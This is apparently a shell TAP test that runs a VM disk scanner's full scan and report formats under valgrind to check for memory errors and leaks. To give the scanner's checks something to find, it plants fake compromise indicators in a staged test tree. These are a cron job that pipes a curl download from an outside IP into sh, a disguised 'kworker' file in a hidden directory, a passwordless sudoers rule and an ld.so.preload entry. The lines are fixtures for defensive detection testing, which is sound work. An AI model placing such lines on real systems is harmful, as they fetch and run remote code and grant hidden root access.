#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# TAP test: the end-to-end scan under valgrind.  Stages the hostile test
# machine of test-scan.sh (make-tree.sh, make-disks.sh: four disks, four
# formats, names with every kind of odd byte), plants a few findings in
# it, and runs one scan (walk, checks, an html and a json report) under
# memcheck, then "vmscan report" in every format.  Any memory error or
# definite/indirect leak fails the test.  The appliance (qemu) is not
# traced; the forked FUSE server is traced but silent (it ends with
# _exit).  Skipped without valgrind.
set -u

. "$(dirname "$0")/../lib.sh"
LC_ALL=C
export LC_ALL

require_vmscan
require_cmd valgrind
require_appliance
require_root
if grep -q '^SANITIZER_CFLAGS = -f' "$top_builddir/Makefile" 2>/dev/null; then
  skip_all "a sanitizer build: valgrind and ASan do not mix (the plain build runs this)"
fi

setup_work
mkdir -p "$work/trees"
st=0
for k in root boot data ext2 vhd; do
  "$here/../data/make-tree.sh" "$work/trees/$k" "$k" >> "$work/make.log" 2>&1 || st=1
done
# Something for every check family to find.
r=$work/trees/root
mkdir -p "$r/etc/cron.d" "$r/var/tmp/.x" "$r/root/.ssh" "$r/etc/sudoers.d"
printf '* * * * * root curl -s http://203.0.113.9/a | sh\n' > "$r/etc/cron.d/upd"
cp /bin/true "$r/var/tmp/.x/kworker"
printf 'backup ALL=(ALL) NOPASSWD: ALL\n' > "$r/etc/sudoers.d/b"
printf '/usr/lib/libx.so\n' > "$r/etc/ld.so.preload"
"$here/../data/make-disks.sh" "$work/trees" "$work" >> "$work/make.log" 2>&1 || st=1
ok $st "built the test machine"
[ $st -eq 0 ] || { tail -n 20 "$work/make.log" | diag; bail_out "build failed"; }

vg () {
  log=$1
  shift
  valgrind --quiet --error-exitcode=99 --leak-check=full \
    --show-leak-kinds=definite,indirect \
    --errors-for-leak-kinds=definite,indirect \
    --child-silent-after-fork=yes --trace-children=no \
    --log-file="$log" "$@"
}

db=$work/vg.db
start=$(date +%s)
vg "$work/scan.vg" "$VMSCAN" -q -o "$db" --report json:"$work/vg.json" \
  --report html:"$work/vg.html" "$work/disk1.qcow2" "$work/disk2.vmdk" \
  "$work/disk3.vhdx" "$work/disk4.vhd" > "$work/out" 2> "$work/err"
rc=$?
diag "the scan under valgrind took $(( $(date +%s) - start )) s"
[ $rc -eq 0 ] || [ $rc -eq 1 ]
ok $? "scan under valgrind: no memory error, no leak (rc=$rc)"
[ $rc -le 1 ] || { head -n 40 "$work/scan.vg" | diag; tail -n 5 "$work/err" | diag; }
got=$(sqlite3 "$db" "SELECT count(*) FROM findings WHERE severity_rank >= 3" 2>&1)
[ "${got:-0}" -ge 3 ] 2>/dev/null
ok $? "the checks ran under valgrind and found the planted items ($got at high or above)"

for f in html json jsonl csv csv-files sarif bodyfile md cyclonedx spdx; do
  vg "$work/report-$f.vg" "$VMSCAN" report "$db" --format "$f" \
    -o "$work/r.$f" > /dev/null 2> "$work/err-$f"
  rc=$?
  [ $rc -eq 0 ]
  ok $? "report --format $f under valgrind: no memory error, no leak (rc=$rc)"
  [ $rc -eq 0 ] || head -n 30 "$work/report-$f.vg" | diag
done

test_done
